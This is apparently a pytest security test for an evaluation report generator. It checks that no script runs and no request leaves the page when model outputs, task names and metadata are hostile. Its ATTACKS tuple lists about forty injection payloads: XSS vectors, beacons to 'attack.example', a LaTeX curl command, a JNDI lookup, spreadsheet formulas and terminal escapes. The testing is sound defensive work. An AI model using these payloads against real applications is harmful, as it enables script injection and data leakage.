# ruff: noqa: E501
"""Completions, prompts, names that attack the report: nothing runs, nothing leaves."""

from __future__ import annotations

import contextlib
import io
import json
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from harness.report import export, print_report, write_index, write_report
from tests.report.conftest import until
from tests.report.synthetic import make_run

HOST = "attack.example"
BEACON = f"http://{HOST}/b"
RUN = "window.top.pwned=1;window.pwned=1;document.title='pwned'"
ATTACKS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--</script><script>{RUN}</script>-->",
    f"<!--<script></script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script >",
    f"<img src=x onerror=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    f"<svg><use href=\"{BEACON}.svg#x\"></use><image href=\"{BEACON}.png\"/></svg>",
    f"<svg><foreignObject><iframe src=\"javascript:{RUN}\"></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object><embed src=\"{BEACON}.swf\">",
    f"<a href=\"javascript:{RUN}\" autofocus onfocus=\"{RUN}\">x</a>",
    f"<input autofocus onfocus=\"{RUN}\">",
    f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    f"<form action=\"{BEACON}\"><button formaction=\"javascript:{RUN}\">go</button></form>",
    f"<meta http-equiv=refresh content=\"0;url={BEACON}\">",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<base href=\"{BEACON}/\"><img src=shots/a.webp>",
    f"<link rel=stylesheet href=\"{BEACON}.css\"><link rel=preload as=image href=\"{BEACON}.png\">",
    f"<link rel=dns-prefetch href=\"//{HOST}\"><link rel=preconnect href=\"//{HOST}\"><link rel=prefetch href=\"{BEACON}\">",
    f"<style>@import '{BEACON}.css'; body{{background:url({BEACON}.png)}} @font-face{{font-family:x;src:url({BEACON}.woff)}} *{{font-family:x}}</style>x",
    f"<p style=\"background:url('{BEACON}.png')\">x</p>",
    f"<video src=\"{BEACON}.mp4\" autoplay poster=\"{BEACON}.png\"></video><audio src=\"{BEACON}.mp3\" autoplay></audio>",
    f"<picture><source srcset=\"{BEACON}.webp\"><img srcset=\"{BEACON}.png 1x\" onload=\"{RUN}\"></picture>",
    f"<marquee onstart=\"{RUN}\">x</marquee>",
    f"<template><script>{RUN}</script></template><template shadowrootmode=open><script>{RUN}</script></template>",
    f"{{{{ ''.__class__ }}}}{{% include 'x' %}}<script>{RUN}</script>",
    f"\u2028\u2029<script>{RUN}</script>\x00\x0b\ud800",
    f"\" autofocus onfocus=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' x='",
    f"`${{(()=>{{{RUN}}})()}}`",
    "\x1b]8;;http://attack.example\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[31mred\x9b31m\x07\u202egnp.exe",
    f"[click](javascript:{RUN}) ![x]({BEACON}.png) <{BEACON}> | [bold red]x[/] :warning:",
    f"$\\input{{/etc/passwd}}$ \\write18{{curl {BEACON}}} =HYPERLINK(\"{BEACON}\",\"x\") @SUM(1) ${{jndi:ldap://{HOST}}}",
)  # fmt: skip


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run in which everything that someone else can write is an attack."""
    assert len(ATTACKS) == 40
    run = make_run(
        tmp_path_factory.mktemp("attack") / "run",
        tasks=40,
        models=("base", "tuned"),
        pictures=False,  # they are replaced below
        completion=lambda model, number: ATTACKS[number],
    )
    manifest = json.loads((run / "manifest.json").read_text())
    tasks = [json.loads(line) for line in (run / "tasks.jsonl").read_text().splitlines()]
    rows = [json.loads(line) for line in (run / "samples.jsonl").read_text().splitlines()]
    names = {"base": "base" + ATTACKS[0], "tuned": ATTACKS[1] + ATTACKS[37]}
    identity = {row["task"]: row["completion"] for row in rows}
    suite = "suite" + ATTACKS[5]
    for task in tasks:
        attack = identity[task["task"]]
        task |= {
            "suite": suite,
            "task": attack,
            "prompt": attack,
            "input": attack,
            "reference": attack,
            "category": attack,
            "difficulty": attack,
        }
    for row in rows:
        attack = identity[row["task"]]
        row |= {
            "suite": suite,
            "task": attack,
            "model": names[row["model"]],
            "outcome": attack,
            "notes": {"bleu": attack},
            "finish_reason": attack,
        }
        row["messages"] = [{"source": attack, "text": attack, "line": 1, "column": 1, "code": attack}]
        row["checks"] = [{"why": attack, "level": "must", "passed": False, "detail": attack}]
        row["render"] |= {
            "detail": attack,
            "errors": [attack],
            "blocked": [attack],
            "accessibility": [{"id": attack, "help": attack, "impact": attack, "nodes": 1}],
        }
        row["shots"] = {"desktop": f"{BEACON}.png", "phone": "shots/../../../secret.webp"}
    old = json.loads((run / "summary.json").read_text())
    inner = old["suites"].pop("html_starter")
    for metric, models in inner["metrics"].items():
        shares = {"pass_at": {"1": 0.5, "2": 0.6, ATTACKS[0]: 0.7}}
        inner["metrics"][metric] = {names[model]: estimate | shares for model, estimate in models.items()}
    inner["pairs"] = {"base:tuned": inner["pairs"]["base:tuned"]}
    old |= {"suites": {suite: {"metrics": inner["metrics"], "pairs": inner["pairs"]}}}
    old["verdict"] |= {
        "sentence": ATTACKS[1] + ": " + ATTACKS[37],
        "gains": ATTACKS[2],
        "fewshot": ATTACKS[3],
        "warnings": list(ATTACKS),
    }
    manifest["models"] = {names[name]: facts for name, facts in manifest["models"].items()}
    manifest["suites"] = {suite: manifest["suites"]["html_starter"] | {"title": ATTACKS[1], "revision": ATTACKS[6]}}
    for facts in manifest["scorers"].values():
        facts |= {"label": ATTACKS[7], "description": ATTACKS[34]}
    manifest |= {
        "run": ATTACKS[1] + ATTACKS[37],
        "command": ATTACKS[0],
        "tools": {ATTACKS[0]: ATTACKS[1]},
        "started": ATTACKS[4],
        "hardware": {"cpu": ATTACKS[3]},
    }
    # what is a number there is refused where it is none
    manifest["profile"] = dict.fromkeys(manifest["profile"].keys() - {"max_new_tokens"}, ATTACKS[5])
    for name, value in (("manifest.json", manifest), ("summary.json", old)):
        (run / name).write_text(json.dumps(value))
    for name, lines in (("tasks.jsonl", tasks), ("samples.jsonl", rows)):
        (run / name).write_text("".join(json.dumps(line) + "\n" for line in lines))
    write_report(run)
    write_index(run.parent)
    return run


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A port that every host name leads to, and what came there."""
    server = socket.create_server(("127.0.0.1", 0))
    heard: list[bytes] = []

    def listen() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            connection.settimeout(1)
            try:
                heard.append(connection.recv(200))
            except OSError:
                heard.append(b"")
            connection.close()

    threading.Thread(target=listen, daemon=True).start()
    yield server.getsockname()[1], heard
    server.close()


@pytest.fixture(scope="module")
def watched(launch: Callable[..., Any], listener: tuple[int, list[bytes]]) -> tuple[Any, list[bytes]]:
    """A Chromium whose every connection, whatever its name, arrives at the listener."""
    port, heard = listener
    browser = launch(f"--host-resolver-rules=MAP * 127.0.0.1:{port}", f"--proxy-server=127.0.0.1:{port}")
    _prove(browser.new_page(), heard)
    return browser, heard


def _prove(page: Any, heard: list[bytes]) -> None:
    """The listener hears what a page sends, else its silence would prove nothing."""
    from playwright.sync_api import Error

    with contextlib.suppress(Error):
        page.goto(f"http://{HOST}/proof", timeout=5000)
    assert any(b"proof" in line for line in heard)
    page.close()
    heard.clear()


def test_nothing_runs_and_nothing_leaves(attacked: Path, watched: tuple[Any, list[bytes]]) -> None:
    browser, heard = watched
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    answered: list[str] = []
    errors: list[str] = []
    dialogs: list[str] = []
    page.on("requestfinished", lambda request: answered.append(request.url.partition("#")[0]))
    page.on("pageerror", lambda error: errors.append(str(error)))

    def dismiss(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.goto((attacked / "index.html").as_uri())
    title = page.title()
    page.evaluate("document.querySelector('#gallery').scrollIntoView({behavior: 'instant'})")
    page.wait_for_selector(".card")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector("dialog[open] .findings")
    for position in range(40):
        for view in "135":
            page.keyboard.press(view)
        page.wait_for_selector("dialog .as-live")
        for frame in page.frames[1:]:
            assert frame.url == "about:srcdoc"
        if position < 39:
            before = page.url
            page.keyboard.press("j")
            until(page, f"location.href !== {before!r}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None and page.title() == title and "pwned" not in title[:5]
    assert page.locator("iframe:not([sandbox=''])").count() == 0
    assert page.evaluate("document.querySelectorAll('script').length") == page.evaluate(
        "document.querySelectorAll('script[type], body > script:last-of-type').length"
    )
    folder = attacked.as_uri()
    assert set(answered) <= {f"{folder}/index.html"}
    assert errors == [] and dialogs == [] and heard == []
    page.goto((attacked.parent / "index.html").as_uri())
    assert page.evaluate("window.pwned") is None and heard == []
    page.close()


def test_a_click_in_the_live_view_leads_nowhere(attacked: Path, watched: tuple[Any, list[bytes]]) -> None:
    browser, heard = watched
    page = browser.new_page()
    page.goto((attacked / "index.html").as_uri() + "#view=live&q=formaction")
    page.evaluate("document.querySelector('#cards').scrollIntoView({behavior: 'instant'})")
    page.click(".card a")
    page.frame_locator("iframe").first.locator("button").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None and heard == []
    page.close()


def test_the_live_view_shows_styles_and_runs_no_script(browser: Any, tmp_path: Path) -> None:
    html = (
        "<!doctype html><style>p{color:rgb(1,2,3)}</style><p>styled</p><script>document.body.textContent='ran'</script>"
    )
    run = make_run(tmp_path / "run", tasks=6, models=("base", "tuned"), pictures=False, completion=lambda *_: html)
    write_report(run)
    page = browser.new_page()
    page.goto((run / "index.html").as_uri() + "#view=live")
    page.evaluate("document.querySelector('#cards').scrollIntoView({behavior: 'instant'})")
    page.click(".card a >> nth=0")
    text = page.frame_locator("iframe").first.locator("p")
    assert text.inner_text() == "styled"
    assert text.evaluate("(p) => getComputedStyle(p).color") == "rgb(1, 2, 3)"
    page.close()


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp1252", "cp437"])
def test_no_escape_sequence_reaches_a_terminal(attacked: Path, encoding: str) -> None:
    target = io.TextIOWrapper(io.BytesIO(), encoding=encoding, newline="")
    print_report(attacked, Console(file=target, width=80, no_color=True))
    target.flush()
    text = target.buffer.getvalue().decode(encoding)
    assert not [
        sign for sign in text if (ord(sign) < 32 and sign != "\n") or 127 <= ord(sign) < 160 or sign in "\u202e\u2028"
    ]
    assert ":warning:" in text or "warning" in text
    assert all(len(line) <= 80 for line in text.splitlines())


def test_exports_carry_no_commands(attacked: Path, tmp_path: Path) -> None:
    import csv

    paths = {
        path.name: path for path in export(attacked, ["csv", "parquet", "latex", "markdown", "model-card"], tmp_path)
    }
    with paths["samples.csv"].open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.DictReader(file) for name, cell in row.items() if not name.startswith("score_")]
    assert not [cell for cell in cells if cell[:1] in "=@+\t" and cell]
    tex = paths["tables.tex"].read_text()
    assert "\\write18" not in tex and "\\input{" not in tex
    assert "<script" not in paths["tables.md"].read_text() and "](" not in paths["tables.md"].read_text()
